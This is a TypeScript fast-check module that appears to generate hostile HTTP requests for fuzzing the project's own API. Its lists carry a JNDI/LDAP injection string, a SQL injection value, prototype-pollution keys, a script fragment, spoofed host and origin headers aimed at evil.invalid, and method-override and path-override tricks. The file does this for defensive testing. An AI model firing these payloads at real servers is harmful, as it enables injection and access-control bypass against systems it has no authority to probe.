/** Hostile methods, credentials and headers around a valid call. */
import fc, { type Arbitrary } from 'fast-check'
import type { AttackedWorkspace } from '../attackedWorkspace.ts'
import type { Header, HostileRequest } from '../request.ts'
import type { Operation } from '../surface.ts'
import { credentialHeaders, validRequest } from './valid.ts'

/** A name that is not of this machine. */
export const FOREIGN_HOST = 'evil.invalid'

const METHODS = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'MKCOL',
  'LOCK',
  'SEARCH',
  'PURGE',
]

/** Methods that the path may not support. */
export function methodAttacks(operation: Operation, prey: AttackedWorkspace): Arbitrary<HostileRequest> {
  const valid = validRequest(operation, prey)
  const others = METHODS.filter((each) => each !== operation.method)
  return fc.tuple(fc.constantFrom(...others), fc.boolean()).map(([method, keepsBody]) => ({
    ...valid,
    method,
    headers: keepsBody ? valid.headers : credentialHeaders(operation, prey),
    body: keepsBody && method !== 'HEAD' ? valid.body : null,
  }))
}

const CONTENT_TYPES = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary="',
  `multipart/form-data; boundary=${'x'.repeat(300)}`,
  'multipart/mixed; boundary=x',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset=',
  'application/json;;;',
  'application/json, text/plain',
  'application/vnd.api+json',
  'APPLICATION/JSON',
  'application/json\t',
  'nonsense',
  '',
  '*/*',
  'a/'.repeat(2000),
  `application/json;${' '.repeat(5000)}x`,
  `application/json;${'a=b;'.repeat(1500)}`,
  '__proto__',
  'constructor/prototype',
]

const HEADERS: readonly Header[] = [
  ['accept', 'application/xml'],
  ['accept', '*/*;q=0.'.concat('0'.repeat(3000))],
  ['accept', 'a/b,'.repeat(2000)],
  ['accept-encoding', 'gzip, br, zstd'],
  ['accept-language', 'x-'.repeat(3000)],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'br, gzip, deflate, identity'],
  ['range', 'bytes=0-0,'.repeat(500)],
  ['if-none-match', '*'],
  ['if-none-match', '"a",'.repeat(2000)],
  ['if-match', '"nonsense"'],
  ['if-modified-since', 'nonsense'],
  ['host', FOREIGN_HOST],
  ['host', '127.0.0.1:1'],
  ['host', ''],
  ['host', '[::1'],
  ['origin', 'https://evil.invalid'],
  ['origin', 'null'],
  ['referer', 'https://evil.invalid/'],
  ['forwarded', 'for=127.0.0.1;host=evil.invalid;proto=https'],
  ['x-forwarded-for', '127.0.0.1, '.repeat(500)],
  ['x-forwarded-host', 'evil.invalid'],
  ['x-forwarded-proto', 'https'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/_sim/reset'],
  ['x-request-id', 'a\'"<script>'],
  ['idempotency-key', 'x'.repeat(9000)],
  ['cookie', 'a=b; '.repeat(1500)],
  ['connection', 'close, authorization'],
  ['te', 'trailers'],
  ['upgrade-insecure-requests', '1'],
  ['user-agent', '\xff\xfe\x80'],
  ['user-agent', '${jndi:ldap://host.invalid/a}'],
  ['x-service-event', 'sale.completed'],
  ['__proto__', 'polluted'],
  ['constructor', 'polluted'],
  ['date', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  ['prefer', 'respond-async, wait=100000'],
]

/** Keys that are invalid, have no permissions, or are written incorrectly. */
function credentials(operation: Operation, prey: AttackedWorkspace): Arbitrary<Header[]> {
  const { credential } = operation
  const header = credential?.header ?? 'Authorization'
  const values = [
    '',
    ' ',
    'Bearer',
    'Bearer ',
    `Bearer${prey.key}`,
    `bearer ${prey.key}`,
    `Basic ${prey.key}`,
    prey.key,
    `Bearer ${prey.key} ${prey.key}`,
    `Bearer  ${prey.key}`,
    `Bearer ${prey.key}\t`,
    'Bearer __proto__',
    'constructor',
    '\xff\xfe',
    `Bearer ${' '.repeat(9000)}x`,
    `Bearer ${'x'.repeat(9000)}`,
    "' OR 1=1--",
  ]
  return fc.oneof(
    fc.constant<Header[]>([]),
    fc.constantFrom(...prey.badKeys).map((key) => credentialHeaders(operation, prey, key)),
    fc.constantFrom(...values).map((value): Header[] => [[header, value]]),
    fc.constant<Header[]>([...credentialHeaders(operation, prey), [header, 'Bearer other']]),
  )
}

export function headAttacks(operation: Operation, prey: AttackedWorkspace): Arbitrary<HostileRequest> {
  const valid = validRequest(operation, prey)
  const own = credentialHeaders(operation, prey)
  const typeless = valid.headers.filter(([name]) => name !== 'content-type')
  const typed = valid.headers.filter(([name]) => name === 'content-type')
  const body = valid.body ?? Buffer.from('{"a":1}')
  return fc.oneof(
    credentials(operation, prey).map((headers) => ({ ...valid, headers: [...headers, ...typed] })),
    fc
      .constantFrom(...CONTENT_TYPES)
      .map((type) => ({ ...valid, headers: [...typeless, ['content-type', type] as const], body })),
    fc.constant({ ...valid, headers: typeless, body }),
    fc
      .array(fc.constantFrom(...HEADERS), { minLength: 1, maxLength: 3, size: 'max' })
      .map((headers) => ({ ...valid, headers: [...valid.headers, ...headers] })),
    fc.constantFrom(50, 500, 1500).map((count) => ({
      ...valid,
      headers: [
        ...own,
        ...typed,
        ...Array.from({ length: count }, (_, at): Header => [`x-${String(at)}`, '']),
      ],
    })),
  )
}
